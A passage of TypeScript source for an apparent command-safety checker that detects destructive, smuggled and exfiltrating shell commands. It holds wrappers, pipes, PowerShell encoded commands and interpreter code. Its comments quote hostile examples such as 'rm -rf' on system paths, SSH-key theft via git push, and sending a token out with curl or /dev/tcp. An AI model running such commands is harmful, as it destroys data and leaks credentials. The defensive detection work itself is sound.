  if (found !== null) return found;
  const name = commandName(argv[0])?.name;
  if (name !== 'pwsh' && name !== 'powershell') return null;
  if (!powerShellReadsStdin(argv.slice(1).map(wordText))) return null;
  for (const text of texts) {
    const inCode = checkPayloadText(powerShellAsShell(text), false, context, place);
    if (inCode !== null) return inCode;
  }
  return null;
}

/** `sh -c TEXT NAME ARG…`: the text read with its positional parameters filled (hardline/shellArguments.ts). */
function checkShellArguments(argv: readonly Word[], context: Context, place: PathPlace, forms?: FormReading): HardlineFinding | null {
  const filled = shellTextWithArguments(argv, forms);
  return filled === null ? null : checkPayloadText(filled, true, context, place);
}

/**
 * Unknown is not harmless (docs/decisions.md): a program the table has no row for (or only known at run
 * time), or one whose row cannot place every word of the argv (an option it does not know, a word
 * only known at run time, a wrapper read inexactly), may be a launcher. Every suffix of its words
 * that starts with a program is read as a command it may run (`frob rm -rf /usr`, `mytool exec --
 * rm -rf /etc`) and every word that holds more than one word of shell as shell text it may hand to
 * a shell (`mytool run 'rm -rf ~'`). The shared budget bounds the work: each suffix is paid for
 * by its characters before it is read, so a long argv costs at most the budget (past it, later
 * suffixes are not read: a known limit, docs/decisions.md).
 */
function checkUnplacedWords(record: SegmentRecord, context: Context, place: PathPlace): HardlineFinding | null {
  const argv = record.peeled.argv;
  if (argv.length < 2 || !unplacedWords(record)) return null;
  // A print call read as shell text (`(println "…")`) writes its words out; a pipe into a shell reads them (dataFlow.ts).
  if (isPrintCallName(commandName(argv[0])?.name ?? '')) return null;
  const code = checkUnplacedCode(argv, context, place) ?? checkUnlistedCodeVerb(record, context, place);
  if (code !== null) return code;
  // Characters of the words from each index on: reading a suffix costs about that much.
  let rest = 0;
  for (let k = 1; k < argv.length; k++) rest += argv[k]!.raw.length + 1;
  // It may be a container runner: the binds its words spell map its command's paths (pathResolver.ts `unplacedRunPlace`).
  const bound = unplacedRunPlace(argv, place);
  // A subcommand its row does not list (`gh pr create --body TEXT`) is read for the commands it may
  // run, and for text in one word only where an option's name says it runs it (`git branchless
  // test run -x TEXT`): a title or a message may quote a command (docs/decisions.md "A subcommand
  // the row does not list is unplaced for the floors").
  const anyText = record.inside.forms.unlisted === null || !record.peeled.exact || record.inside.forms.unreadable !== null;
  for (let k = 1; k < argv.length; k++) {
    const word = argv[k]!;
    // A bare power word is the power rule's to read (power.ts, hostPower.ts): it asks or names a guest's power as often as this machine's.
    if (mayNameProgram(word) && !isBarePowerWord(word)) {
      if (!pay(context, rest)) return null;
      const found = checkNestedCommand(argv.slice(k), context, place) ?? (bound === null || !pay(context, rest) ? null : checkNestedCommand(argv.slice(k), context, bound));
      if (found !== null) return found;
    }
    rest -= word.raw.length + 1;
    const text = wordText(word);
    // `--cmd=TEXT`, and a task runner's parameter `cmd=TEXT`: the value may be the text.
    const given = (text.startsWith('-') && text.includes('=')) || PARAMETER.test(text) ? text.slice(text.indexOf('=') + 1) : text;
    // A monitoring agent's remote-command key holds the command (Zabbix's `system.run[CMD,nowait]`).
    const value = /^system\.run\[(.*?)(?:,\s*(?:wait|nowait))?\]$/s.exec(given)?.[1] ?? given;
    if (SHELL_TEXT.test(value) && (anyText || RUNNING_OPTION.test(text) || RUNNING_OPTION.test(wordText(argv[k - 1]!)))) {
      const found = checkPayloadText(value, word.kind !== 'literal', context, place, true);
      if (found !== null) return found;
    }
  }
  return null;
}

/** Most words of a script's own read as code, and the longest. */
const MAX_SCRIPT_CODE_WORDS = 8;
const MAX_SCRIPT_CODE = 4096;

/**
 * An interpreter running a script file (`python manage.py …`, `php artisan …`, `ruby bin/rails
 * …`): no row says what the script does with its own words, so a word of them that holds code
 * (`shell -c 'import shutil; shutil.rmtree("/etc")'`, `tinker --execute='exec("rm -rf ~");'`) is
 * read as code of the interpreter's language at its worst, as a program without a row has its
 * words read (docs/decisions.md "A script's own words may be code").
 */
function checkScriptArguments(record: SegmentRecord, context: Context, place: PathPlace): HardlineFinding | null {
  const argv = record.peeled.argv;
  const name = commandName(argv[0])?.name;
  if (name === undefined || rowFor(name)?.category !== 'interpreter') return null;
  const operands = readByRow(name, argv.slice(1))?.operands ?? [];
  const script = literalText(operands[0]);
  // A script file named, and words of its own after it: inline code (`-c`, `-e`) is the row's payload.
  if (script === null || operands.length < 2 || script.startsWith('-') || /[\s()'"`;]/.test(script)) return null;
  // Only after a word that names running code (`shell`, `tinker`, `eval`, `runner` …): the
  // interpreter's own options after a script are the script's words, no code of the interpreter
  // (`node app.js -pe CODE` hands app.js the words `-pe CODE`).
  const verb = operands.findIndex((word, k) => k > 0 && CODE_VERB.test(literalText(word) ?? ''));
  if (verb < 0) return null;
  let read = 0;
  for (const word of operands.slice(verb + 1)) {
    const text = literalText(word);
    if (text === null || text.length > MAX_SCRIPT_CODE || !/[(`]/.test(text)) continue;
    if (++read > MAX_SCRIPT_CODE_WORDS) break;
    const code = /^--?[A-Za-z][\w-]*=/.test(text) ? text.slice(text.indexOf('=') + 1) : text;
    for (const finding of readProgramCode(code, name)) {
      if (finding.kind !== 'shell-text') continue;
      const found = checkPayloadText(finding.text, true, context, place);
      if (found !== null) return found;
    }
  }
  return null;
}

/**
 * A word that names running code: a subcommand the row does not list (`app eval CODE`, `tool
 * console -e CODE`), or a script's own subcommand (Django's `shell`, Laravel's `tinker`). The words
 * after it are read as code of the program's language, at worst, as a program without a row has
 * its words read (docs/decisions.md "A script's own words may be code"). Other unlisted
 * subcommands keep their words as text (a title, a message).
 */
const CODE_VERB = /^(?:runner|eval|evaluate|exec|execute|console|repl|script|shell|tinker|run-code|php:eval|ev)$/;

function checkUnlistedCodeVerb(record: SegmentRecord, context: Context, place: PathPlace): HardlineFinding | null {
  const unlisted = record.inside.forms.unlisted;
  const verb = unlisted === null ? undefined : /^\S+ (\S+): /.exec(unlisted)?.[1];
  if (verb === undefined || !CODE_VERB.test(verb)) return null;
  const argv = record.peeled.argv;
  const at = argv.findIndex((word, k) => k > 0 && literalText(word) === verb);
  if (at < 0 || at + 1 >= argv.length) return null;
  for (const payload of unplacedCodePayloads([argv[0]!, ...argv.slice(at + 1)])) {
    const found = payload.kind === 'fork-loop' ? null : checkPayloadText(payload.text, true, context, place);
    if (found !== null) return found;
  }
  return null;
}

/** `shutdown`, `reboot`, `halt` or `poweroff` as a word of its own. */
function isBarePowerWord(word: Word): boolean {
  return word.kind === 'literal' && /^(?:halt|poweroff|reboot|shutdown)$/.test(word.value);
}

/** A program without a row: its words read as code of its language (languages/index.ts `unplacedCodePayloads`). */
function checkUnplacedCode(argv: readonly Word[], context: Context, place: PathPlace): HardlineFinding | null {
  const name = commandName(argv[0]);
  // Not the words of a subcommand its row does not list: a title or a message may quote code
  // (`gh issue create --title 'rm -rf / …'`; docs/decisions.md "A subcommand the row does not list is unplaced for the floors").
  if (name !== null && rowFor(name.name) !== null) return null;
  for (const payload of unplacedCodePayloads(argv)) {
    const found = payload.kind === 'fork-loop' ? null : checkPayloadText(payload.text, true, context, place);
    if (found !== null) return found;
  }
  return null;
}

/**
 * A runner hands its input to the command it starts (`echo … | docker run -i -v /:/h alpine sh`,
 * `… | kubectl node-shell N -- sh`): the input is that command's code, read where it runs.
 */
function checkContainerInput(record: SegmentRecord, texts: readonly string[], exact: boolean, context: Context, outer: PathPlace): HardlineFinding | null {
  const inner = record.inside.argv;
  if (!CONTAINER_PROGRAMS.has(commandName(inner[0])?.name ?? '')) return null;
  const place = record.wrapped ? placeInside(outer, record.peeled.layers) : outer;
  const environment = [...record.segment.assignments, ...(record.wrapped ? record.peeled.layers.flatMap((layer) => layer.assignments) : [])];
  const run = containerRun(inner, place, environment);
  if (run === null || run.shellText === true || run.inner.length === 0) return null;
  return checkStdinCode(argvRecord(run.inner), texts, exact, context, run.place);
}

/** Words of shell text, not one word: a blank, an operator or a substitution. */
const SHELL_TEXT = /[\s;&|`]|\$\(/;

/** An option whose name says its value is a command it runs (`-x`, `-c`, `--exec`, `--command=`, `--run`). */
const RUNNING_OPTION = /^--?(?:x|c|e|exec|execute|command|cmd|run|eval|shell|sh)(?:=|$)/;

/** A `KEY=VALUE` parameter (st2's `cmd=…`, an Ansible module's `free_form=…`, pyinfra's `path=…`). */
const PARAMETER = /^[A-Za-z_][\w.-]*=/;

/** The program has no row (or is only known at run time), or its row cannot place every word. */
function unplacedWords(record: SegmentRecord): boolean {
  return !record.peeled.exact || unplacedProgram(record.inside);
}

/** {@link unplacedWords} of a command already unwrapped (`command`: its record). */
function unplacedProgram(command: SegmentRecord): boolean {
  const name = commandName(command.argv[0]);
  if (name === null || rowFor(name.name) === null) return true;
  return leavesWordsUnplaced(command.forms);
}

/**
 * An interpreter handed a script or an archive to run (`java -jar tool.jar ARGS`, `python3 tool.py`,
 * `node cli.js`): what that program does with its input no row says, as for a program without a
 * row, so text fed to it is read at its worst, as code (docs/decisions.md "REPLs, consoles and
 * scripts fed code on their input"). Jenkins' CLI reads a Groovy script from its input (`groovy =`),
 * a tool's own console reads its commands there. Inline code (`-c`, `-e`) is read as such instead.
 */
function runsUnplacedScript(command: SegmentRecord): boolean {
  const name = commandName(command.argv[0]);
  const row = name === null ? null : rowFor(name.name);
  if (row === null || row.category !== 'interpreter') return false;
  if (command.forms.forms.some((form) => form.role === 'executor' && (form.payload === 'code' || form.payload === 'shell-text'))) return false;
  const script = readArgs(command.argv.slice(1), row.grammar ?? {}).operands[0];
  return script !== undefined && script.kind === 'literal' && /[./]/.test(script.value) && rowFor(commandName(script)?.name ?? '') === null;
}

/** A literal word that may name a program some reading of the floor looks at (not an option, not a path operand of no program). */
function mayNameProgram(word: Word): boolean {
  const name = commandName(word);
  if (name === null || word.kind !== 'literal' || word.value.startsWith('-')) return false;
  return isHardlineProgram(name.name) || rowFor(name.name) !== null;
}

/**
 * The code a shell of another language runs from its options (PowerShell's `-Command`, and its
 * `-EncodedCommand`, base64 of UTF-16LE text): the floor has no reader of that language, so it reads
 * the code as it reads another language's text ({@link checkCodeText}). `-Command` takes the rest of
 * the line as the code.
 */
function checkShellCode(command: SegmentRecord, context: Context, place: PathPlace): HardlineFinding | null {
  const argv = command.argv;
  const name = commandName(argv[0])?.name;
  if (name === undefined || rowFor(name)?.category !== 'shell') return null;
  // PowerShell's statements, as the shell text that does the same (powershellStatements.ts).
  for (const code of name === 'pwsh' || name === 'powershell' ? powerShellCode(name, argv.slice(1).map(wordText)) : []) {
    const found = checkPayloadText(powerShellAsShell(code), false, context, place);
    if (found !== null) return found;
  }
  for (const form of command.forms.forms) {
    if (form.role !== 'executor' || form.payload !== 'code' || form.value === null) continue;
    const encoded = /^-{1,2}e(?:c|n[a-z]*)?$/i.test(form.trigger);
    const text = encoded ? decodedCommand(wordText(form.value)) : argv.slice(form.index + 1).map(wordText).join(' ');
    const found = checkCodeText(text, context, place);
    if (found !== null) return found;
  }
  return null;
}

/** PowerShell's `-EncodedCommand` value: base64 of UTF-16LE text (the value itself when it is not). */
function decodedCommand(value: string): string {
  if (!/^[A-Za-z0-9+/=\s]+$/.test(value)) return value;
  return Buffer.from(value, 'base64').toString('utf16le');
}

/** `source`/`.` of standard input (`. /dev/stdin <<< 'TEXT'`): the text fed in is run. */
function sourcesStdin(argv: readonly Word[]): boolean {
  const name = commandName(argv[0])?.name;
  if (name !== 'source' && name !== '.') return false;
  const file = literalText(argv[1]);
  return file === '/dev/stdin' || file === '/dev/fd/0' || file === '/proc/self/fd/0' || argv.length === 1;
}

/**
 * A process substitution the program runs or loads as its script (hardline/writtenScripts.ts
 * `substitutedScriptRun`: `source <(echo 'TEXT')`, `bash <(printf …)`, `python3 <(echo …)`,
 * `make -f <(printf …)`, `awk -f <(echo …)`, any word of a program without a row) runs what the
 * substituted command prints. What a literal producer prints there ({@link producedText}) is read
 * as a written file's text is (approximately: the substitution is read by the tolerant reader,
 * not the resolver).
 */
function checkSubstitutedScripts(argv: readonly Word[], context: Context, place: PathPlace): HardlineFinding | null {
  if (context.depth >= MAX_TEXT_PAYLOAD_DEPTH || !argv.some((word) => substitutedCommand(word) !== null)) return null;
  const printed = (text: string): WrittenText | null => {
    const texts = readTextCommands(text, context.home).flatMap((command) => producedText(command as CommandShape)?.texts ?? []);
    return texts.length === 0 ? null : { texts, exact: false };
  };
  const run = substitutedScriptRun(argv, [], place, printed);
  return run === null ? null : checkScriptRun(run, context);
}

/** A command built from another's payload (`find -exec CMD ;`, piped `xargs` input). */
function checkNestedCommand(argv: readonly Word[], context: Context, place: PathPlace): HardlineFinding | null {
  const next = deeper(context, place);
  if (!firstVisit(context, 'argv', argv.map((word) => word.raw).join('\0'), place) || !pay(next, argv.length)) return null;
  const view: ArgvView = { argv };
  return checkDirect(view, [], next, place) ?? checkPayloads(view, null, next, place) ?? checkNestedSend(view, next, place);
}

/** A built command that sends what it names (a container's `wget --post-file=/a/credentials`, binds read by `place`). */
function checkNestedSend(view: ArgvView, context: Context, place: PathPlace): HardlineFinding | null {
  const record = recordOfView(view);
  if (!maySend(record.inside, [])) return null;
  return checkExfiltration([{ record, redirects: [], pipedFrom: -1, place }], context.home, false);
}

/**
 * Takes `cost` (characters of text or words of argv) from the shared budget. Nested work is
 * bounded in depth and in total, so a crafted command cannot make the floor's work grow faster
 * than its length; the direct checks of the command itself are never skipped.
 */
function pay(context: Context, cost: number): boolean {
  if (context.depth > MAX_TEXT_PAYLOAD_DEPTH || context.shared.remaining < cost) return false;
  context.shared.remaining -= cost;
  return true;
}

/**
 * True the first time a payload is met at a place; the same payload reached twice is read once.
 * Read through other binds it is another command (`unplacedRunPlace`: a runner without a row).
 */
function firstVisit(context: Context, kind: 'text' | 'argv', text: string, place: PathPlace): boolean {
  const seen = kind === 'text' ? (context.shared.seenText ??= new Set()) : (context.shared.seenArgv ??= new Set());
  const key = place.mounts === undefined ? text : text + place.mounts.map((mount) => `\0${mount.inside}\0${mount.host}`).join('');
  if (seen.has(key)) return false;
  seen.add(key);
  return true;
}

function deeper(context: Context, place: PathPlace, guessed = context.guessed): Context {
  return new Context(place, context.depth + 1, context.shared, guessed);
}

/**
 * The argv to judge: the unwrapped one, and — when a wrapper's options could not be read
 * exactly — also each later word that names a program some arm looks at (`sudo $OPTS rm -rf /`).
 */
function readings(peeled: PeeledCommand): Word[][] {
  const out: Word[][] = [peeled.argv];
  if (peeled.exact) return out;
  for (let k = 1; k < peeled.argv.length && out.length <= MAX_REANCHORED; k++) {
    const name = commandName(peeled.argv[k])?.name;
    if (name !== undefined && isHardlineProgram(name)) out.push(peeled.argv.slice(k));
  }
  return out;
}

/**
 * Shell text a command will run: read back through the resolver while the depth allows. `guessed`:
 * the text is only taken at its worst for shell text (see {@link Context.guessed}).
 */
function checkPayloadText(text: string, approximate: boolean, context: Context, place: PathPlace, guessed = false): HardlineFinding | null {
  const next = deeper(context, place, context.guessed || guessed);
  if (!firstVisit(context, 'text', text, place) || !pay(next, text.length)) return null;
  if (approximate || next.depth > MAX_PAYLOAD_DEPTH) return checkText(text.normalize('NFKC'), next);
  let reading: CommandReading;
  try {
    reading = readCommand(text, { home: context.home, shell: 'any' });
  } catch {
    return checkText(text.normalize('NFKC'), next);
  }
  return checkReading(reading, next);
}

/**
 * Text on the standard input of `argv` (printed into it, a here-document): when the program table
 * says the program runs it as code (`sh`, `bash -s`, `at now`, `python3 -`, `ed FILE`, `make -f -`),
 * it is read as shell text — exactly for a shell's own text, approximately for another language's
 * ({@link codeTexts}). `texts` are alternatives (what echo prints with and without escapes).
 */
function checkStdinCode(command: SegmentRecord, texts: readonly string[], exact: boolean, context: Context, place: PathPlace): HardlineFinding | null {
  // A program the table cannot place (no row, or words its row cannot read) may run its input as
  // shell text, or as code of a language the floor has no reader of: read approximately, as code.
  for (const pod of podsOnInput(command.argv, texts)) {
    const found = checkPayloadText(pod, false, context, place);
    if (found !== null) return found;
  }
  const kind = stdinCodeOf(command.argv, command.forms) ?? (command.argv.length > 0 && (unplacedProgram(command) || runsUnplacedScript(command)) ? 'unknown' : null);
  if (kind === null) return null;
  if (kind === 'code') {
    const ends = checkStdinCodeEndsSession(command.argv, texts);
    if (ends !== null) return ends;
  }
  const program = commandName(command.argv[0])?.name;
  for (const text of texts) {
    const found = kind === 'code' || kind === 'unknown' ? checkCodeText(text, context, place) : checkPayloadText(text, !exact, context, place);
    if (found !== null) return found;
    // The program's own language, or the approximate reader of code (`shutil.rmtree('/etc')`, a
    // playbook's `user: state=absent remove=yes`): what the code does, as the floor's commands.
    for (const payload of kind === 'shell' || program === undefined ? [] : stdinCodeTextPayloads(text, program)) {
      const inCode = payload.kind === 'fork-loop' ? hardlineFinding('fork-bomb', `${payload.via} runs ${payload.what}`) : checkPayloadText(payload.text, true, context, place);
      if (inCode !== null) return inCode;
    }
    const filled = stdinTextWithArguments(command.argv, text);
    const inFilled = filled === null ? null : checkPayloadText(filled, true, context, place);
    if (inFilled !== null) return inFilled;
  }
  return null;
}

/**
 * Code of another language (Python, Tcl, ed commands, a makefile, m4) read the way the floor reads
 * literals it cannot follow (as the awk reader does): the whole text, each line without the marks
 * that make a line a command in those languages (ed's `!`, a recipe's tab, make's `@`/`-`/`+`),
 * every quoted string and every unquoted call argument, each as approximate shell text. Never exact: a miss is possible, a silent
 * drop is not.
 */
function checkCodeText(text: string, context: Context, place: PathPlace): HardlineFinding | null {
  const found = checkPayloadText(text, true, context, place);
  if (found !== null) return found;
  const lines = text.replace(/^[\t !@+-]+/gm, '');
  if (lines !== text) {
    const inLines = checkPayloadText(lines, true, context, place);
    if (inLines !== null) return inLines;
  }
  // A line's command after the language's own prefix word (APL's `)HOST`, SQLite's `.shell`,
  // a notebook's `%sh`, `:!`): a sigil and letters, then the command (docs/decisions.md "A
  // loader's `-` reads the pipe"). `#`, `;`, `/` and `-` open comments in many languages: not prefixes.
  const prefixed = text.replace(LANGUAGE_PREFIX, '');
  if (prefixed !== text) {
    const inPrefixed = checkPayloadText(prefixed, true, context, place);
    if (inPrefixed !== null) return inPrefixed;
  }
  // A command a job or pod spec declares, with its args (`command = "/bin/rm" args = ["-rf", "/etc"]`).
  for (const declared of declaredCommands(text)) {
    const inDeclaration = checkPayloadText(declared, true, context, place);
    if (inDeclaration !== null) return inDeclaration;
  }
  for (const match of text.matchAll(QUOTED_OR_CALLED)) {
    const literal = match[1] ?? match[2] ?? match[3] ?? match[4] ?? '';
    if (!SHELL_TEXT.test(literal) && !mayNameProgram({ kind: 'literal', value: literal, raw: literal })) continue;
    const inLiteral = checkPayloadText(literal, true, context, place);
    if (inLiteral !== null) return inLiteral;
  }
  return null;
}

/** A line's leading command word of a language's own: one sigil, then letters or `!` (`)HOST`, `.shell`, `%sh`, `:!`). */
const LANGUAGE_PREFIX = /^[ \t]*[)\].:%!][A-Za-z!]+[ \t]+/gm;

/**
 * A quoted string of most languages: '…', "…" (with backslash escapes) or `…`; or the unquoted
 * argument of a call (m4's `esyscmd(rm -rf /)`).
 */
const QUOTED_OR_CALLED = /'([^'\n]*)'|"((?:[^"\\\n]|\\.)*)"|`([^`]*)`|[A-Za-z_]\(([^()'"`\n]+)\)/g;

// ---------------------------------------------------------------------------------------------
// Pipelines
// ---------------------------------------------------------------------------------------------

function checkPipelines(commands: readonly CommandShape[], context: Context): HardlineFinding | null {
  // Only a unit with a command that may send can leak: with none on the line (most lines), no
  // grouping and no look at the redirects for an open socket.
  let anySender = false;
  // A version-control push sends what the line staged (`cp ~/.ssh/id_rsa k && git add k && … && git push`).
  for (let k = 0; k < commands.length && !anySender; k++) anySender = maySend(recordOfView(commands[k]!).inside, commands[k]!.redirects) || pushesRepository(recordOfView(commands[k]!));
  if (anySender) {
    const found = checkSendingUnits(commands, context);
    if (found !== null) return found;
  }
  if (context.depth >= MAX_TEXT_PAYLOAD_DEPTH) return null;
  for (let k = 0; k < commands.length; k++) {
    const command = commands[k]!;
    if (command.pipedFrom === null) continue;
    const found = checkPipedText(command.pipedFrom, command, context, command.place);
    if (found !== null) return found;
  }
  return null;
}

/** Whether the command pushes a repository to a server (programs/pushes.ts). */
function pushesRepository(record: SegmentRecord): boolean {
  const argv = record.peeled.argv;
  const name = commandName(argv[0])?.name;
  return name !== undefined && pushOf(argv, name) !== null;
}

/** The exfiltration arm over each unit (pipeline, subshell, …) of a line with a possible sender. */
function checkSendingUnits(commands: readonly CommandShape[], context: Context): HardlineFinding | null {
  // `exec 3<>/dev/tcp/h/p` keeps a connection open for every later command of the line.
  const openSocket = commands.some(
    (command) =>
      (literalText(command.argv[0]) === 'exec' &&
        command.argv.length === 1 &&
        command.redirects.some((redirect) => isNetworkDevicePath(wordPathText(redirect.target)))) ||
      opensZshSocket(innerArgv(command)),
  );
  const units = new Map<number, CommandShape[]>();
  for (let k = 0; k < commands.length; k++) {
    const command = commands[k]!;
    const key = openSocket ? 0 : command.unit;
    const unit = units.get(key);
    if (unit === undefined) units.set(key, [command]);
    else unit.push(command);
  }
  for (const unit of units.values()) {
    if (!unit.some((command) => maySend(recordOfView(command).inside, command.redirects))) continue;
    const at = new Map<CommandShape, number>();
    for (let k = 0; k < unit.length; k++) at.set(unit[k]!, k);
    const found = checkExfiltration(
      unit.map((command) => ({ record: recordOfView(command), redirects: command.redirects, pipedFrom: command.pipedFrom === null ? -1 : (at.get(command.pipedFrom) ?? -1), pipedGroup: groupIndexes(command, (member) => at.get(member) ?? -1), place: command.place })),
      context.home,
      openSocket,
    );
    if (found !== null) return found;
  }
  // Through a file written earlier on the line (`gh auth token > /tmp/t; curl -d @/tmp/t h`).
  return checkThroughFiles(commands.map((command) => ({ record: recordOfView(command), redirects: command.redirects, pipedFrom: command.pipedFrom === null ? -1 : commands.indexOf(command.pipedFrom), pipedGroup: groupIndexes(command, (member) => commands.indexOf(member)), place: command.place, unit: command.unit })));
}

/** The indexes (by `indexOf`) of the commands of a group piped into `command`, or undefined. */
function groupIndexes(command: CommandShape, indexOf: (member: CommandShape) => number): number[] | undefined {
  if (command.pipedGroup === undefined) return undefined;
  return command.pipedGroup.map(indexOf).filter((index) => index >= 0);
}

/** The arguments `echo`/`printf`/zsh's `print` print (after their own flags), or null for other programs. */
function printedArguments(argv: readonly Word[]): readonly Word[] | null {
  const name = commandName(argv[0])?.name;
  if (name !== 'echo' && name !== 'printf' && name !== 'print') return null;
  let args = argv.slice(1);
  if (name === 'echo') {
    while (args.length > 0 && /^-[neE]+$/.test(literalText(args[0]) ?? '')) args = args.slice(1);
  }
  if (name === 'print') {
    // zsh's print: flag clusters, `-u FD`/`-C N`/`-f FORMAT`/`-v NAME` take a value, `-` or `--` ends them.
    while (args.length > 0 && /^(?:[-+][A-Za-z]*|--)$/.test(literalText(args[0]) ?? '')) {
      const flags = literalText(args[0])!;
      args = args.slice(1);
      if (flags === '-' || flags === '--') break;
      if (/[uCfvx]$/.test(flags) && args.length > 0) args = args.slice(1);
      // `print -s`/`-z` put the words into history or the editor buffer, `-v` into a variable: nothing is printed.
      if (/[szv]/.test(flags)) return [];
    }
  }
  return args;
}

/**
 * The text a literal producer prints: `echo` (with and without its escapes: shells differ),
 * `printf` (its format applied, printfFormat.ts), `cat` of a here-document or here-string, `jq -r`
 * of string literals, `awk` printing string literals. Null for any other program.
 */
function producedText(source: CommandShape): Produced | null {
  const inside = recordOfView(source).inside;
  const argv = inside.argv;
  const name = commandName(argv[0])?.name;
  if (name === undefined) return null;
  const literal = argv.every((word) => word.kind === 'literal');
  const words = argv.slice(1).map(wordText);
  switch (name) {
    case 'echo': {
      let k = 0;
      let escapes = false;
      for (; k < words.length && /^-[neE]+$/.test(words[k]!); k++) escapes = /e[^E]*$/.test(words[k]!) || (escapes && !words[k]!.includes('E'));
      const plain = words.slice(k).join(' ');
      const decoded = echoEscapes(words.slice(k));
      // bash's echo prints escapes as written unless -e; dash's (sh) decodes them always.
      const texts = plain === decoded.text ? [plain] : escapes ? [decoded.text, plain] : [plain, decoded.text];
      return { texts, exact: literal && texts.length === 1 };
    }
    case 'print': {
      // zsh's print: its words joined, escapes decoded unless -r (both read: the text is approximate).
      const args = printedArguments(argv);
      if (args === null || args.length === 0) return null;
      const plain = args.map(wordText).join(' ');
      return { texts: [plain, echoEscapes(args.map(wordText)).text], exact: false };
    }
    case 'printf': {
      const printed = printfOutput(words);
      return printed === null ? null : { texts: [printed.text], exact: literal && printed.exact };
    }
    case 'cat': {
      if (source.stdinText === null || words.some((word) => word !== '-' && !word.startsWith('-'))) return printedAtWorst(argv, () => null);
      return { texts: [source.stdinText], exact: literal };
    }
    case 'awk':
    case 'gawk':
    case 'mawk':
    case 'nawk': {
      const literals = readAwkCommand(words, name).programs.flatMap(stringLiteralsOf);
      if (literals.length === 0) return printedAtWorst(argv, () => inputOf(source, literal));
      // A pattern comparing a field with a string (`$3=="/" {print $1}`) picks lines of a listing
      // flowing in: the listing at worst, its literals too.
      const listed = printedAtWorst(argv, () => inputOf(source, literal));
      if (listed?.listing === true) return { ...listed, texts: listed.texts.map((text) => [text, ...literals].join('\n')) };
      return { texts: [literals.join('\n'), literals.join(' ')], exact: false };
    }
    case 'jq':
    case 'gojq':
    case 'jaq':
      // The filter's own string literals, else what a simple path filter makes of its input (dataFlow.ts).
      return jqPrinted(argv) ?? transformedText(argv, () => inputOf(source, literal));
    default:
      // A transform of what flows in (`base64 -d`, `rev`, `tr`), an interpreter's print, or at worst
      // the strings of code the floor cannot read (dataFlow.ts).
      return transformedText(argv, () => inputOf(source, literal)) ?? interpreterPrinted(argv, inside) ?? printedAtWorst(argv, () => inputOf(source, literal)) ?? convertedPath(argv) ?? windowsVariablePrinted(argv) ?? passedOn(source, inside) ?? codePrintedAtWorst(argv, unplacedProgram(inside), () => inputOf(source, literal));
  }
}

/** An unplaced program in the middle of a pipe passes on, at worst, every line it reads, or their decoding (hardline/unplacedPipes.ts, dataFlow.ts). */
function passedOn(source: CommandShape, inside: SegmentRecord): Produced | null {
  if (source.pipedFrom === null || !unplacedProgram(inside)) return null;
  const given = inputOf(source, false);
  return given === null ? null : { ...given, texts: decodedAtWorst(given.texts), exact: false };
}

/** An unplaced program at the end of a pipe may run what flows in, as xargs or a shell would (hardline/unplacedPipes.ts). */
function checkUnplacedSink(source: CommandShape, sinkView: ArgvView, context: Context, place: PathPlace): HardlineFinding | null {
  const record = recordOfView(sinkView);
  if (!unplacedWords(record)) return null;
  for (const text of unplacedSinkTexts(source, record.peeled.argv, mayNameProgram)) {
    const found = checkPayloadText(text, true, context, place);
    if (found !== null) return found;
  }
  return null;
}

/** What a command reads on its input, when the floor knows: its here-text, else what is piped in. */
function inputOf(source: CommandShape, literal: boolean): Produced | null {
  return source.stdinText !== null ? { texts: [source.stdinText], exact: literal } : source.pipedFrom === null ? null : (producedText(source.pipedFrom) ?? listedText(innerArgv(source.pipedFrom)));
}

/**
 * `jq -r` (raw output) of a filter holding string literals: a filter that is one JSON string prints
 * exactly it; otherwise every literal is read, approximately. The filter is read with jq's row.
 */
function jqPrinted(argv: readonly Word[]): Produced | null {
  const reading = readByRow('jq', argv.slice(1));
  if (reading === null) return null;
  const raw = reading.options.some((option) => ['-r', '-j', '--raw-output', '--join-output', '--raw-output0'].includes(option.name));
  // `--arg NAME VALUE` and its kind take two words: the filter is the first operand after them.
  const pairs = reading.options.filter((option) => ['--arg', '--argjson', '--slurpfile', '--rawfile'].includes(option.name)).length;
  const filter = reading.operands[pairs];
  if (!raw || filter === undefined) return null;
  const text = wordText(filter).trim();
  if (/^"(?:[^"\\]|\\.)*"$/.test(text) && !text.includes('\\(')) {
    try {
      return { texts: [JSON.parse(text) as string], exact: filter.kind === 'literal' };
    } catch {
      // Not JSON after all: read its literals below.
    }
  }
  const literals = stringLiteralsOf(text);
  return literals.length === 0 ? null : { texts: [literals.join('\n'), literals.join('')], exact: false };
}

/** The printed text split into the words xargs would read (opaque words kept whole). */
function printedWords(args: readonly Word[]): Word[] {
  const out: Word[] = [];
  for (const word of args) {
    if (word.kind !== 'literal') {
      out.push(word);
      continue;
    }
    for (const part of word.value.replace(/\\n/g, '\n').split(/[ \t\n]+/)) {
      if (part !== '') out.push({ kind: 'literal', value: part, raw: part });
    }
  }
  return out;
}

/** `echo 'rm -rf /' | sh` and `echo / | xargs rm -rf`: printed text that becomes code or arguments. */
function checkPipedText(source: CommandShape, sinkView: ArgvView, context: Context, place: PathPlace): HardlineFinding | null {
  const unplaced = checkUnplacedSink(source, sinkView, context, place);
  if (unplaced !== null) return unplaced;
  const produced = producedText(source as CommandShape);
  const sinkRecord = recordOfView(sinkView);
  // Shell text the sink runs reads what flows in (`… | split --filter='xargs rm -rf'`; payloadInput.ts).
  for (const text of payloadsWithInput(sinkRecord, innerArgv(source), null)) {
    const found = checkPayloadText(text, true, context, place);
    if (found !== null) return found;
  }
  if (produced === null) return sinkRecord.wrapped || commandName(sinkView.argv[0])?.name === 'parallel' ? checkInputCommands(source, null, sinkRecord.peeled, context, place) : null;
  const sink = sinkRecord.peeled;
  const found = checkStdinCode(sinkRecord.inside, produced.texts, produced.exact, context, place) ?? checkWindowsInput(sink.argv, produced.texts, context, place) ?? checkContainerInput(sinkRecord, produced.texts, produced.exact, context, place);
  if (found !== null) return found;
  // Printed code piped into an interpreter (`printf '…' | python3 -`, `echo … | tclsh`): its language's reader.
  const name = commandName(sink.argv[0])?.name;
  for (const text of name === undefined ? [] : produced.texts) {
    const code = stdinPayloads(sink.argv, name!, text);
    for (let k = 0; k < code.length; k++) {
      const payload = code[k]!;
      const inCode = payload.kind === 'fork-loop' ? hardlineFinding('fork-bomb', `${payload.via} runs ${payload.what}`) : checkPayloadText(payload.text, true, context, place);
      if (inCode !== null) return inCode;
    }
  }
  return checkInputCommands(source, produced, sink, context, place);
}

/** A line xargs reads that the floor cannot compute: one word known only at run time. */
const UNREAD_INPUT: Word = { kind: 'opaque', raw: '"$line"', expansions: ['variable'] };

/**
